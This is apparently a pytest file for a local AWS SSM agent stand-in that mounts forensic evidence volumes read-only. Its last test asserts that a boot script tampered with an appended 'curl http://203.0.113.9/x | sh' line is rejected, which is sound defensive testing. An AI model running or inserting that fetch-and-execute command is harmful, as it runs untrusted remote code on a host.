"""The local AWS's SSM agent stand-in (tools/local_aws/ssm_agent.py) runs the program's evidence-mount
document itself, as root, on loop devices holding the attached volumes' bytes: the answer is the script's,
never the launcher's. Through the service's own client (``service.custody.mounting.run``) where the path
allows."""

from __future__ import annotations

import hashlib
import json
import subprocess
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from programs.forensic_env.config import validate_config
from programs.forensic_env.workstation import mount_command, mount_script, user_data
from service.custody import disk_image, mounting
from tests.support.disk_images import (
    HOST_FILES,
    blank_image,
    ext4_features,
    ext4_image,
    ext4_image_with_dirty_journal,
    sha256sum,
    xfs_image,
)
from tests.support.root import require_root
from tools.local_aws import ssm_agent
from tools.local_aws.aws import LocalAws

SNAPSHOT = "snap-0123456789abcdef0"


@pytest.fixture
def root() -> None:
    require_root("mkfs.xfs", "dumpe2fs")


def _loop_devices() -> set[str]:
    out = subprocess.run(["losetup", "-l", "-n", "-O", "NAME,BACK-FILE"], capture_output=True, text=True)
    return {line for line in out.stdout.splitlines() if "forensics-ssm-volumes-" in line}


def _agent_mounts() -> list[str]:
    return [line for line in Path("/proc/self/mounts").read_text().splitlines() if "/mnt/evidence" in line]


class Workstation:
    """An instance of the local AWS with the program's mount document, and volumes attached to it."""

    def __init__(self, local_aws: LocalAws, user_data: str | None = None) -> None:
        self.ec2, self.ssm, self.ebs = (local_aws.client(s) for s in ("ec2", "ssm", "ebs"))
        image = self.ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
        extra: dict[str, Any] = {"UserData": user_data} if user_data else {}
        instance = self.ec2.run_instances(ImageId=image, MinCount=1, MaxCount=1, **extra)["Instances"][0]
        self.instance_id = instance["InstanceId"]
        self.zone = instance["Placement"]["AvailabilityZone"]
        self.document = f"mount-evidence-{uuid.uuid4().hex[:8]}"
        self.volumes: list[str] = []
        content = mount_command(validate_config({"investigationId": "inv-agent", "ticket": "T-1"}))
        self.ssm.create_document(
            Name=self.document, Content=json.dumps(content), DocumentType="Command", DocumentFormat="JSON"
        )

    def snapshot_of(self, image: Path) -> str:
        return disk_image.write_image(self.ebs, image, description="test evidence")

    def attach(self, snapshot_id: str, device: str = "/dev/sdf") -> str:
        volume = self.ec2.create_volume(AvailabilityZone=self.zone, SnapshotId=snapshot_id)["VolumeId"]
        self.ec2.attach_volume(VolumeId=volume, InstanceId=self.instance_id, Device=device)
        self.volumes.append(str(volume))
        return str(volume)

    def mount(self, snapshot_id: str, letter: str = "f", action: str = "mount") -> mounting.MountReport:
        return mounting.run(
            self.ssm, self.document, self.instance_id, action=action,  # type: ignore[arg-type]
            letter=letter, snapshot=snapshot_id, wait_seconds=120, poll_seconds=0.2,
        )  # fmt: skip

    def invocation(self) -> dict[str, Any]:
        (command,) = self.ssm.list_commands(InstanceId=self.instance_id)["Commands"][:1]
        return dict(
            self.ssm.get_command_invocation(CommandId=command["CommandId"], InstanceId=self.instance_id)
        )


@pytest.fixture
def workstation(local_aws: LocalAws) -> Iterator[Workstation]:
    workstation = Workstation(local_aws)
    yield workstation
    # Nothing is left behind: no loop device of the agent's for this workstation's volumes, no mount of
    # evidence. Loop devices are machine-wide: another test process attaches and releases its own meanwhile,
    # so only those backed by this workstation's volumes count.
    left = {device for device in _loop_devices() if any(volume in device for volume in workstation.volumes)}
    assert not left and not _agent_mounts()


def test_a_blank_volume_fails_with_the_scripts_own_message(
    root: None, workstation: Workstation, tmp_path: Path
) -> None:
    snapshot_id = workstation.snapshot_of(blank_image(tmp_path))
    workstation.attach(snapshot_id)
    with pytest.raises(mounting.MountFailed) as failed:
        workstation.mount(snapshot_id)
    assert "no filesystem found (blkid reports no TYPE) and no partitions" in str(failed.value)
    invocation = workstation.invocation()
    assert invocation["Status"] == "Failed" and invocation["ResponseCode"] == 1
    line = json.loads(invocation["StandardOutputContent"].splitlines()[-1])
    assert line["attached_as"] == "/dev/sdf" and line["device"].startswith("/dev/loop")
    assert line["ok"] is False and line["readonly"] is True and line["snapshot"] == snapshot_id
    assert line["time"] != "1970-01-01T00:00:00Z"
    assert invocation["StandardErrorContent"].startswith(f"mount_evidence: {line['device']} (attached as")


@pytest.mark.parametrize("fstype", ["ext4", "xfs"])
def test_evidence_with_a_file_system_is_mounted_read_only(
    root: None, workstation: Workstation, tmp_path: Path, fstype: str
) -> None:
    image = ext4_image(tmp_path, HOST_FILES) if fstype == "ext4" else xfs_image(tmp_path, HOST_FILES)
    snapshot_id = workstation.snapshot_of(image)
    workstation.attach(snapshot_id, "/dev/sdg")
    report = workstation.mount(snapshot_id, letter="g")
    assert report.fstype == fstype and report.readonly is True
    assert report.device == "/dev/sdg" and report.mountpoints == [f"/mnt/evidence/{snapshot_id}"]
    invocation = workstation.invocation()
    assert invocation["Status"] == "Success" and invocation["ResponseCode"] == 0
    assert invocation["StandardErrorContent"] == ""


def test_the_launchers_mount_is_read_only_and_the_image_is_unchanged(root: None, tmp_path: Path) -> None:
    """The agent's own run, with a write probe after the script: EROFS, and the image (whose journal needs
    recovery, as a snapshot of a running disk's does) is bit for bit what it was."""
    image = ext4_image_with_dirty_journal(tmp_path, HOST_FILES)
    assert "needs_recovery" in ext4_features(image)
    before = sha256sum(image)
    target = f"/mnt/evidence/{SNAPSHOT}"
    probe = "\n".join(
        [
            "#!/bin/bash",
            mount_script().rstrip("\n"),
            f"mount_evidence f {SNAPSHOT}",
            f"cat {target}/etc/passwd",
            f"touch {target}/probe 2>&1 && echo WRITTEN || true",
            f"findmnt -rn -o VFS-OPTIONS,FS-OPTIONS --mountpoint {target}",
        ]
    )
    log = tmp_path / "var-log"
    log.mkdir()
    with ssm_agent.loop_device(image) as device:
        done = ssm_agent.run_on_workstation(
            probe, {"/dev/sdf": device}, log, timeout=120, env={"EVIDENCE_DEVICE_TIMEOUT": "0"}
        )
    assert done.status == "Success", done.stderr
    assert HOST_FILES["etc/passwd"].decode() in done.stdout
    assert "Read-only file system" in done.stdout and "WRITTEN" not in done.stdout
    vfs, fs = done.stdout.strip().splitlines()[-1].split(" ")
    assert "ro" in vfs.split(",") and {"ro", "norecovery"} <= set(fs.split(","))
    (line,) = [json.loads(x) for x in (log / "forensics-evidence-mount.json").read_text().splitlines()]
    assert line["ok"] is True and line["fstype"] == "ext4" and line["attached_as"] == "/dev/sdf"
    assert sha256sum(image) == before and "needs_recovery" in ext4_features(image)
    assert not _agent_mounts()


def test_the_boot_script_runs_once_and_report_reads_its_result(
    root: None, local_aws: LocalAws, tmp_path: Path
) -> None:
    """Evidence given at open is mounted by the user data (the program's boot script); ``action=report``
    only reads what that boot wrote."""
    ebs = local_aws.client("ebs")
    good = disk_image.write_image(ebs, ext4_image(tmp_path, HOST_FILES), description="at open")
    blank = disk_image.write_image(ebs, blank_image(tmp_path), description="at open, blank")
    cfg = validate_config(
        {"investigationId": "inv-boot", "ticket": "T-2", "evidenceSnapshotIds": [good, blank]}
    )
    station = Workstation(local_aws, user_data(cfg))
    station.attach(good, "/dev/sdf")
    station.attach(blank, "/dev/sdg")
    assert station.mount(good, "f", action="report").fstype == "ext4"
    with pytest.raises(mounting.MountFailed, match="no filesystem found"):
        station.mount(blank, "g", action="report")


def test_other_documents_fail_saying_the_local_aws_cannot_run_them(local_aws: LocalAws) -> None:
    ec2, ssm = local_aws.client("ec2"), local_aws.client("ssm")
    image = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
    instance = ec2.run_instances(ImageId=image, MinCount=1, MaxCount=1)["Instances"][0]["InstanceId"]
    name = f"other-{uuid.uuid4().hex[:8]}"
    content = {
        "schemaVersion": "2.2",
        "description": "not the program's",
        "mainSteps": [{"action": "aws:runShellScript", "name": "x", "inputs": {"runCommand": ["id"]}}],
    }
    ssm.create_document(Name=name, Content=json.dumps(content), DocumentType="Command", DocumentFormat="JSON")
    for document in (name, "AWS-RunShellScript"):
        command = ssm.send_command(InstanceIds=[instance], DocumentName=document)["Command"]
        invocation = ssm.get_command_invocation(CommandId=command["CommandId"], InstanceId=instance)
        assert invocation["Status"] == "Failed" and invocation["ResponseCode"] != 0
        assert invocation["StandardErrorContent"].startswith(ssm_agent.CANNOT_RUN)
        assert invocation["StandardOutputContent"] == ""


def test_without_loop_devices_the_mount_document_fails_clearly(monkeypatch: pytest.MonkeyPatch) -> None:
    content = json.dumps(mount_command(validate_config({"investigationId": "inv-x", "ticket": "T-3"})))
    monkeypatch.setattr(ssm_agent.os, "geteuid", lambda: 1000)
    outcome = ssm_agent.Agent().invoke(
        None, None, content, {"action": "mount", "letter": "f", "snapshot": SNAPSHOT}
    )
    assert outcome.status == "Failed" and outcome.code != 0 and outcome.stdout == ""
    assert outcome.stderr.startswith(f"{ssm_agent.CANNOT_RUN}: it needs root")


def test_only_the_programs_boot_script_runs_as_user_data() -> None:
    cfg = validate_config({"investigationId": "inv-ud", "ticket": "T-4", "evidenceSnapshotIds": [SNAPSHOT]})
    script = user_data(cfg)
    assert ssm_agent.boot_script(script) == script
    assert ssm_agent.boot_script(script + "curl http://203.0.113.9/x | sh\n") is None
    assert ssm_agent.boot_script(script.replace("blockdev --setro", "true")) is None
    assert ssm_agent.boot_script("#!/bin/bash\nid\n") is None
    assert hashlib.sha256(script.encode()).hexdigest()  # the same text is what EC2 stores
